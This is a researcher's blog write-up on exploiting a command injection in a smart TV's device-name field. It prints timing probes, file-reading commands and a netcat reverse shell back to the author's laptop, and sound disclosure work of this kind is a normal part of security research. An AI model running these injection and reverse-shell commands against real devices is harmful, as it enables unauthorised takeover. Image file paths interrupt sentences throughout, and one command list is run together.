How I Hacked my Smart TV from My Bed via a Command Injection

This article explains how I was able to exploit a command injection vulnerability in my Smart TV and use Netcat to gain remote shell access on the TV set.

It was one of those lazy evenings, just watching TV after a long day. I was tired but kept on thinking about a vulnerability I found earlier on in a router someone gave me. Finding a flaw in such a device is always quite fun because you often see things that aren’t meant to be seen by the users, except the developers and maybe the company’s tech support team.

Since I was very tired, I just wanted to set the sleep timer on the television and lie down. But while setting the timer I wondered about other possible menu functions, and if there any hidden features that are only meant for the support team or the developers. After a quick Google search on my mobile phone I found out that this brand of televisions has a code that opens a hiddenmenu.

After opening the settings and typing in the code on my remote control, another menu popped up on the left side of the screen. Almost all of the categories it showed weren’t accessible. I could only activate “Hotel Mode” and view the version number of the set.

I wanted to find out more about the TV. Within the settings, there was a category called “info”. I opened it and only saw some more version numbers. Then something else caught my attention; I could actually give my TV set a name.

The Vulnerability in My Smart Television Set

When you work in Information Security, you can’t help but to test some payloads you use on a daily basis on other input fields you encounter. It might be a GET parameter on your router’s web interface, the control panel of your new printer, or, in my case, a TV. So I thought it would be fun to rename my TV to “television `sleep 5`”.

The Sleep option on the Smart TV set

After entering and submitting the payload from my remote, the settings menu just froze for a long time. Once it was responsive again I changed the name so I could select other menu entries. I didn’t really think that I had just found a command injection or something similar. It’s not odd for my TV to hang for a few seconds before changes are made, but becausenow it took a longer time to become responsive, it made me curious.

The time did not match my input as it was way longer than five seconds. I thought it might have something to do with the backtick characters I injected. Maybe the TV did not expect them and threw an error which prevented it from loading. I typed in “television `sleep 0`” and tried it again. It loaded instantly.

There is something definitely happening, but was not sure what and how. So I decided to measure the time. It turned out that it always took the television set three times longer than the input number to become responsive, as shown below:

  • sleep(2) - 6 seconds
  • sleep(3) - 9 seconds
  • sleep(5) - 15 seconds

Running Commands on my SmartTV

I couldn’t believe it. There was actually a command injection in the first input field I tried. Freezing the menu was not an ultimate proof though, and it was not very useful in terms of exploitation. Since I only had 31 characters, minus the two backticks, my payload could only consist of 29 characters.

Below is a list of commands I tried to run on the TV, including an explanation of what they are and also a confirmation if they succeeded or not.





`which nc && sleep 2`

which is a linux command that returns the path to a program if it exists.

&& sleep 2 would freeze the menu for 3*2 seconds if the which function found nc on the TV set.



`which ssh && sleep 2`

I wanted to see if ssh was installed.



`which wget && sleep 2`

But it had wget`cat /etc/passwd && sleep 2`

I wanted to see if /etc/passwd was readable. It was, and it would have been a big surprise if it wasn't



`cat /etc/shadow && sleep 2`

This one is interesting. When you have root privileges the /etc/shadow file isreadable. I wanted to test if I am root but the file wasn’t readable.



`ls /etc/shadow && sleep 2`

This is the explanation why the shadow file couldn’t be opened. It just didn’t exist.



It was really late so I decided to go to sleep and try to get a shell the next day. After waking up the hardest part followed: getting out of bed to get the laptopand an ethernet cable. Until now I didn’t even have to go anywhere and I found it quite funny that I was able to run system commands on my TV just by using a remote control.

Getting Shell Access on the Smart TV

My TV is wall mounted, so plugging in a cable is not as easy as one would imagine. After a dislocated shoulder and several threats towards the TV I plugged the cable in. I connected it to the laptop and found out the laptop’s IP with ipconfig.

Finding the laptop's IP address from the command line

So now that I knew the IP address of my laptop, I only had to get a reverse shell to my laptop. Therefore I did not need to know the IP address of the TV. Also a reverse shell is handy because it would bypass any possible firewall rules blocking incoming connections. But before thinking about how to get one in less than 29 characters I wanted to learn a little bit more about the system.

Using Netcat on the Smart TV

I found out that there is nc installed on the TV set, so I decided to pipe the output of certain commands through nc back to my laptop. The first one I tried was of course id, which would tell me whether or not I had root privileges on the Smart TV set.

The researcher confirmed he had root access on the Smart TV set

As seen from the above I had root privileges. This wasn’t too surprising, but it was still nice to see. The next thing I did was getting a directory listing of / with `ls -la /|nc 5`

A directory listing of the file system on the Smart TV

Perfect. But I still had no shell to issue proper commands. All of them were more or less length restricted and not too useful. However, since the version of nc that was installed on the TV allowed the -e flag it was easy to get a reverse shell with: `nc 5 -e sh`

Gaining Shell access on the Smart TV via a Reverse Shell

I Had Shell Access on the Smart TV

Perfect. I now had a proper shell to work with. I was especially interested in messing withthe TV in a visible way. There were multiple possibilities, such as changing the logo that’s being shown during the boot up process, or changing the apps icons. Since this is a smart TV, it has some preinstalled apps such as Youtube and Skype.

 A screenshot from the Smart TV

I noticed that most of the file system was read only, so I could not just change the logos. But there were pictures that were frequently changing, i.e. the channel preview boxes you can see while zapping between different TV channels. They contained snapshots of the programs that ran when you visited the channel. Obviously those had to be saved in a place where you could read and write files.

I noticed that the icon images were .png files. I listed all files with a .png extension by using the command find / -name *.png but the preview files were not there. However I tried the same search but this time for .jpg files, and I noticed some files like channelImage123.jpg. After uploading the files that I wanted to show, and replacing the corresponding channelImage files, this was the result.

Changing some of the images on the smart tv

Your TV is Not as Smart as You Would Think

Internet connected devices can have vulnerabilities in the weirdest of places, where you would expect them less. When I tested the sleep command I didn’t even thinkit would work at all, I did it just out of boredom. I also had noidea that my TV runs on linux and was even more than surprised to see that my vulnerabilities are exploitable.

This vulnerability is not exploitable remotely,however it convinced me that I was right to not connect my TV to the internet, anduse its (not so) smart features. I am not really comfortable with the thought that someone can have control over my TV.

I think there are way cooler things and more vulnerabilities that I couldexploit on the TV set. But it is not worth the heart pains I get when the devicefreezes, and I have to wait for a minute to seewhether it was bricked or not. Because after allyou watch television to relax and not to raise your blood pressure, except if you like towatch football.

Sven Morgenroth

About the Author

Sven Morgenroth - Senior Security Engineer